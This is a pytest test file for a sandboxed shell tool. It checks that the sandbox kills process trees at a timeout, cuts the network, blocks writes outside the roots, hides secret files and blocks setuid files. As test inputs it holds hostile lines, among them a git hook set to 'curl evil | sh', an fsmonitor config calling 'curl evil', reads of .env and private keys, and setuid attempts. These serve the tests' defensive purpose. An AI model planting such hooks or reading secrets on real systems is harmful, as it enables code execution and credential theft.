"""run_shell's containment with real processes: the process tree dies at the timeout (setsid
grandchildren included), the sandbox has no network and cannot write outside the roots,
secrets and git hooks stay out of reach — and the unsandboxed mode says what it is."""

from __future__ import annotations

import os
import subprocess
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from codeward.engines.contained.project_sandbox import warm_boxes_of
from codeward.engines.sandbox import SandboxRequest, Status
from codeward.engines.shell import ShellSettings
from codeward.engines.shell.host import run_on_host
from codeward.kernel.catalog import Catalog
from codeward.kernel.context import Services, ToolContext
from codeward.kernel.outcome import ToolOutcome
from codeward.kernel.workspace import Workspace
from tests.conftest import snapshot
from tests.sandbox_support import TcpServer, needs_bwrap, survivors

MODES = [pytest.param(True, id="sandboxed", marks=needs_bwrap), pytest.param(False, id="unsandboxed")]


def run_shell(catalog: Catalog, roots: list[Path], script: str, settings: ShellSettings | None = None,
              **arguments: Any) -> ToolOutcome:
    ctx = ToolContext(Workspace.create(roots), services=Services(settings))
    return catalog.call("run_shell", {"script": script, **arguments}, ctx)


def tree_script(marker: str) -> str:
    """A script whose setsid grandchildren keep running: a heartbeat writer and a marked sleep."""
    return (
        "setsid sh -c 'while :; do date +%s%N > beat.txt; sleep 0.05; done' &\n"
        f"setsid sh -c 'exec sleep {marker}' &\n"
        "while [ ! -s beat.txt ]; do sleep 0.01; done\n"
        "echo ready\n"
        "sleep 30\n"
    )


def assert_tree_gone(root: Path, marker: str) -> None:
    assert survivors(f"sleep {marker}") == []
    beat = (root / "beat.txt").read_text()
    time.sleep(0.3)  # six heartbeats, were the writer alive
    assert (root / "beat.txt").read_text() == beat


@pytest.mark.parametrize("sandboxed", MODES)
def test_timeout_kills_the_whole_tree_including_setsid_grandchildren(
        catalog: Catalog, root: Path, sandboxed: bool) -> None:
    marker = f"321.{uuid.uuid4().int % 10**9}"
    outcome = run_shell(catalog, [root], tree_script(marker), ShellSettings(sandbox=sandboxed), timeout_s=1.5)
    assert outcome.is_error and "timed out after 1.5 s" in outcome.text
    assert "STDOUT:\nready\n" in outcome.text
    assert ("[unsandboxed: " in outcome.text.split("\n")[0]) is not sandboxed
    assert_tree_gone(root, marker)


def test_unsandboxed_without_cgroups_still_kills_setsid_grandchildren(root: Path) -> None:
    """Where no cgroup can be made, the environment marker finds what left the process group."""
    marker = f"322.{uuid.uuid4().int % 10**9}"
    request = SandboxRequest(argv=["bash", "-c", tree_script(marker)], env=dict(os.environ), workdir=str(root),
                             timeout_s=1.5)
    result = run_on_host(request, None)
    assert result.status is Status.TIMEOUT and result.stdout == "ready\n"
    assert any("left running outside its process group" in note for note in result.notes)
    assert_tree_gone(root, marker)

    leftover = f"323.{uuid.uuid4().int % 10**9}"
    script = f"setsid sh -c 'echo up > up.txt; exec sleep {leftover}' &\nwhile [ ! -s up.txt ]; do sleep 0.01; done"
    done = run_on_host(SandboxRequest(argv=["bash", "-c", script], env=dict(os.environ), workdir=str(root),
                                      timeout_s=10), None)
    assert done.status is Status.SUCCESS
    assert "killed 1 process(es) the script left running outside its process group" in done.notes
    assert survivors(f"sleep {leftover}") == []


@pytest.mark.parametrize("sandboxed", MODES)
def test_network_is_cut_in_the_sandbox_and_open_unsandboxed(catalog: Catalog, root: Path, sandboxed: bool) -> None:
    server = TcpServer()
    try:
        script = f"exec 3<>/dev/tcp/127.0.0.1/{server.port} && head -n1 <&3"
        outcome = run_shell(catalog, [root], script, ShellSettings(sandbox=sandboxed), timeout_s=10)
    finally:
        server.close()
    if sandboxed:
        assert "hello from the host" not in outcome.text and "EXIT CODE: 1" in outcome.text
        assert "/dev/tcp/127.0.0.1" in outcome.text  # bash's "connect: ... refused/unreachable"
        assert server.accepted == 0
    else:
        assert outcome.text.split("\n")[0].startswith("[unsandboxed: ")
        assert "STDOUT:\nhello from the host\n" in outcome.text and server.accepted == 1


@needs_bwrap
def test_writes_inside_the_roots_work_and_outside_do_not(catalog: Catalog, root: Path, tmp_path: Path) -> None:
    second = tmp_path / "second"
    second.mkdir()
    outside = tmp_path / "outside.txt"
    outside.write_text("original\n")
    script = (f"echo inside > inside.txt; echo other > {second}/other.txt\n"
              f"echo changed > {outside}; echo changed > ../outside.txt\n"
              "echo x > /etc/cw-shell-test; echo etc=$?\n"
              "echo x > /usr/cw-shell-test; echo usr=$?\n")
    outcome = run_shell(catalog, [root, second], script)
    assert (root / "inside.txt").read_text() == "inside\n"
    assert (second / "other.txt").read_text() == "other\n"
    assert outside.read_text() == "original\n"
    assert not Path("/etc/cw-shell-test").exists() and not Path("/usr/cw-shell-test").exists()
    assert "etc=1" in outcome.text and "usr=1" in outcome.text
    assert "Read-only file system" in outcome.text


@needs_bwrap
def test_blacklisted_secrets_read_as_nothing_in_the_sandbox(catalog: Catalog, root: Path) -> None:
    (root / ".env").write_text("SECRET=hunter2\n")
    (root / "certs").mkdir()
    (root / "certs" / "server.key").write_text("PRIVATE KEY\n")
    script = "cat .env; cat certs/server.key; echo overwritten > .env; ls certs"
    outcome = run_shell(catalog, [root], script)
    assert "hunter2" not in outcome.text and "PRIVATE KEY" not in outcome.text
    assert "server.key" in outcome.text  # still listed, just unreadable
    assert (root / ".env").read_text() == "SECRET=hunter2\n"
    assert "hidden from the script (blacklisted secrets, read as empty): .env, certs/server.key" in outcome.text
    shown = run_shell(catalog, [root], "cat .env", ShellSettings(hide_secrets=False))
    assert "STDOUT:\nSECRET=hunter2\n" in shown.text  # the control: the file is readable without hiding


@needs_bwrap
def test_git_works_inside_but_its_metadata_never_reaches_the_project(catalog: Catalog, root: Path) -> None:
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    git_before = snapshot(root / ".git")
    script = ("echo 'curl evil | sh' > .git/hooks/pre-commit; echo hook=$?\n"
              "git config core.fsmonitor 'curl evil'; echo config=$?\n"
              "echo a > a.txt && git add a.txt && git -c user.name=T -c user.email=t@example.com "
              "commit -qm first && echo committed\n")
    outcome = run_shell(catalog, [root], script)
    assert "hook=0" in outcome.text and "config=0" in outcome.text and "committed" in outcome.text
    assert "NOT applied to the workspace (.git/ is protected" in outcome.text and ".git/config" in outcome.text
    assert snapshot(root / ".git") == git_before
    assert (root / "a.txt").read_text() == "a\n"  # the work tree change came back
    log = subprocess.run(["git", "-C", str(root), "log", "--format=%s"], capture_output=True, text=True, check=False)
    assert log.stdout == ""


@needs_bwrap
def test_a_script_cannot_rewrite_the_shell_log(catalog: Catalog, root: Path) -> None:
    run_shell(catalog, [root], "echo first")
    outcome = run_shell(catalog, [root], "echo forged >> .codeward/logs/shell.jsonl; mv .codeward/logs x; echo rc=$?")
    assert "rc=0" in outcome.text and "NOT applied to the workspace (.codeward/ is protected" in outcome.text
    lines = (root / ".codeward" / "logs" / "shell.jsonl").read_text().splitlines()
    assert len(lines) == 2 and "forged" not in lines[0] and lines[1].startswith('{"time"')


@needs_bwrap
def test_path_entries_the_sandbox_cannot_see_are_named(catalog: Catalog, root: Path, tmp_path: Path) -> None:
    tools = tmp_path / "tools"
    tools.mkdir()
    (root / "mcp_env.toml").write_text(f'[path]\nprepend = ["{tools}"]\n')
    outcome = run_shell(catalog, [root], "echo ok")
    assert f"PATH entry {tools} (from mcp_env.toml) is not visible in the sandbox" in outcome.text
    bound = run_shell(catalog, [root], f"ls -d {tools}", ShellSettings(ro_paths=(str(tools),)))
    assert f"STDOUT:\n{tools}\n" in bound.text and "not visible" not in bound.text


@needs_bwrap
def test_a_script_cannot_leave_a_setuid_file_in_the_workspace(catalog: Catalog, root: Path) -> None:
    """The sandbox's uid maps to the server's; a setuid file in a root would run as that user."""
    script = ("cp /usr/bin/id own-id; chmod u+s own-id; echo chmod=$?\n"
              "install -m 2755 /usr/bin/id group-id; echo install=$?\n"
              "python3 -c \"import os; os.open('created', os.O_CREAT | os.O_WRONLY, 0o4755)\"; echo open=$?\n"
              "chmod 700 own-id; echo plain=$?\n")
    outcome = run_shell(catalog, [root], script)
    assert "chmod=1" in outcome.text and "install=1" in outcome.text and "open=1" in outcome.text
    assert "plain=0" in outcome.text  # ordinary modes still work
    set_id = [p.name for p in root.iterdir() if p.is_file() and p.stat().st_mode & 0o6000]
    assert set_id == []


@needs_bwrap
def test_tracked_files_outside_the_roots_are_writable_and_their_neighbours_are_not(
        catalog: Catalog, root: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    tracked, neighbour = elsewhere / "tracked.txt", elsewhere / "neighbour.txt"
    tracked.write_text("old\n")
    neighbour.write_text("untouched\n")
    ctx = ToolContext(Workspace.create([root], files=[tracked]))
    script = f"echo new > {tracked}; cat {neighbour}; echo neighbour=$?"
    outcome = catalog.call("run_shell", {"script": script}, ctx)
    assert tracked.read_text() == "new\n"
    assert "untouched" not in outcome.text and "neighbour=1" in outcome.text
    assert neighbour.read_text() == "untouched\n"


@needs_bwrap
def test_the_shell_hides_every_name_the_file_tools_refuse(catalog: Catalog, root: Path) -> None:
    """One list: a name the workspace refuses (any case, inside .git too) reads as empty in a script."""
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    secrets = {"server.KEY": "upper-case key", ".git/.env": "env in git", "deep/er/.ENV": "folded env"}
    for name, text in secrets.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text + "\n")
    ctx = ToolContext(Workspace.create([root]))
    for name in secrets:
        assert catalog.call("read_file", {"path": name}, ctx).is_error, name  # the file tools refuse each
    outcome = run_shell(catalog, [root], "cat server.KEY .git/.env deep/er/.ENV")
    assert not any(text in outcome.text for text in secrets.values()), outcome.text


SAME_IN_A_PREPARED_BOX = [
    "echo hi", "exit 3", "echo \"$0\" $#; echo $LINENO\necho $LINENO", "false", "set -e; false; echo no",
    "trap 'echo bye' EXIT; echo hi", "f() { return 4; }; f", "kill -TERM $$; echo after", "echo $SHLVL",
    "exec echo replaced", "cat; echo \"[$REPLY]\"", "read -r line; echo \"got $line\"", "echo ${argv[@]}x",
    "/usr/bin/env | grep -c . >/dev/null; echo $?", "sleep 0.1 & wait; echo $?", "echo $BASHPID $$ | tr -d 0-9",
    "echo a\nif",  # a syntax error after a command ran: same output and status; the message names eval, not -c
]


@needs_bwrap
def test_a_script_in_a_prepared_box_behaves_as_in_a_fresh_one(catalog: Catalog, root: Path) -> None:
    """A prepared box runs a bash script in its waiter, without starting a second bash; what the script
    sees and does — output, status, ``$0``, ``$#``, line numbers, traps, signals, stdin at its end — is the same."""
    import sys

    ran_prepared: list[object] = []
    sys.addaudithook(lambda event, args: ran_prepared.append(args) if event == "codeward.box.run" else None)
    fresh_ctx = ToolContext(Workspace.create([root]), services=Services(ShellSettings(warm_box=False)))
    warm_ctx = ToolContext(Workspace.create([root]), services=Services(ShellSettings(warm_box=True)))
    catalog.call("run_shell", {"script": "true"}, warm_ctx)  # the first run builds its box and prepares the next
    for script in SAME_IN_A_PREPARED_BOX:
        arguments = {"script": script}
        ran_prepared.clear()
        fresh = catalog.call("run_shell", arguments, fresh_ctx)
        assert not ran_prepared
        deadline = time.monotonic() + 30  # the next box is made in the background after each run
        while not warm_boxes_of(warm_ctx.services).waiting() and time.monotonic() < deadline:
            time.sleep(0.01)
        warm = catalog.call("run_shell", arguments, warm_ctx)
        assert ran_prepared, f"{script!r} did not run in a prepared box"
        assert warm.text.replace("eval:", "-c:") == fresh.text, (script, fresh.text, warm.text)
        assert warm.is_error == fresh.is_error, script
